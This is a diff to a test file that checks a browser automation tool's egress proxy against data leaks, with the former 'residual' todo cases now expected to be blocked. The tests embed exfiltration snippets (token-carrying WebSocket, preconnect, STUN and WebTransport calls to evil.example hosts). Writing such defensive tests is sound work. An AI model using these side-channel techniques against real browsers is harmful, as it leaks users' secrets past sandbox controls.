@@ -1,10 +1,10 @@
 // The socket gate's neighbours, attacked after a sensitive read by a script the human approved (its held requests
 // all rejected): WebSocket addresses of unusual shapes and sockets of nested, data: and module workers and of a
 // worker in a sandboxed frame, all stopped by the gate (each reached the server with the gate off); and the
-// connections no request the backstop judges goes with, kept as todo until stopped: a WebSocket to a loopback
-// address (Chromium sends no loopback connection to a proxy script's proxy: --proxy-bypass-list is not applied to
-// one), a <link rel=preconnect> (a TCP and TLS connection whose name, SNI and DNS lookup, carries the token),
-// WebRTC's STUN (UDP to any host and port; a name carrying the token is resolved) and WebTransport (QUIC over UDP).
+// connections that carry no request of their own, which passed while tabward's browser sent only WebSockets to a
+// proxy script's proxy and now meet the egress proxy (browser/egressProxy.ts): a WebSocket to a loopback address
+// (proxied too, `<-loopback>`), a <link rel=preconnect> (its tunnel opens nothing upstream and looks up no name),
+// WebRTC's STUN (UDP to any host and port: the browser may use only proxied TCP) and WebTransport (QUIC over UDP).
 
 import assert from 'node:assert/strict';
 import { createSocket } from 'node:dgram';
@@ -118,26 +118,22 @@ test('the WebSocket of a worker a sandboxed frame starts is stopped', async () =
   assert.deepEqual(await attempt(opener), []);
 });
 
-const residual = { todo: 'residual: no request the backstop judges goes with it (docs/security.md)' };
-
 for (const host of ['127.0.0.1', 'localhost', '0x7f.1'])
-  test(`a worker’s WebSocket to the loopback address ${host} is stopped`, {
-    todo: 'residual: Chromium sends no loopback connection to the proxy script’s proxy',
-  }, async () => {
+  test(`a worker’s WebSocket to the loopback address ${host} is stopped`, async () => {
     assert.deepEqual(await attempt(inWorker(socketTo(`wss://${host}:${evilPort}/?d=${token}`))), []);
   });
 
-test('a preconnect to a name carrying the token opens no connection', residual, async () => {
+test('a preconnect to a name carrying the token opens no connection', async () => {
   const opener = `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'https://residualtoken4242.evil.example:${evilPort}/'; document.head.append(l)`;
   assert.deepEqual(await attempt(opener), []);
 });
 
-test('WebRTC sends no STUN request to a server of the script’s', residual, async () => {
+test('WebRTC sends no STUN request to a server of the script’s', async () => {
   const opener = `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:residualtoken4242.evil.example:${udpPort}' }] }); pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer)); setTimeout(() => pc.close(), 1900)`;
   assert.deepEqual(await attempt(opener), []);
 });
 
-test('WebTransport sends nothing to a server of the script’s', residual, async () => {
+test('WebTransport sends nothing to a server of the script’s', async () => {
   const opener = `const t = new WebTransport('https://evil.example:${udpPort}/?d=${token}', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }); t.ready.catch(() => {}); setTimeout(() => t.close(), 1900)`;
   assert.deepEqual(await attempt(opener), []);
 });
